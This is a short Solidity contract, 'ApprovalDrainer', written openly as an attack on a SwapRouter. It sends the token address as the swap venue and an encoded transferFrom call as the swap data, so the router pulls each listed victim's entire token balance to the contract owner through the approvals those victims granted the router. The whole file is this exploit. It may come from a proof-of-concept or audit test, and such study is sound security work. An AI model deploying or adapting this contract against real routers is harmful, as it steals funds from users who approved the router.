// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "./IERC20.sol";
import {SwapRouter} from "./SwapRouter.sol";

/// @title Attack: names the token as venue and a transfer from each victim as the data, so the router spends what the
/// victims let it spend.
contract ApprovalDrainer {
    SwapRouter private immutable router;
    address private immutable owner;

    constructor(SwapRouter router_) {
        router = router_;
        owner = msg.sender;
    }

    function attack(IERC20 token, address[] calldata victims) external {
        require(msg.sender == owner);
        for (uint256 i = 0; i < victims.length; i++) {
            bytes memory data = abi.encodeCall(IERC20.transferFrom, (victims[i], owner, token.balanceOf(victims[i])));
            router.swap(token, 0, token, 0, address(token), data);
        }
    }
}
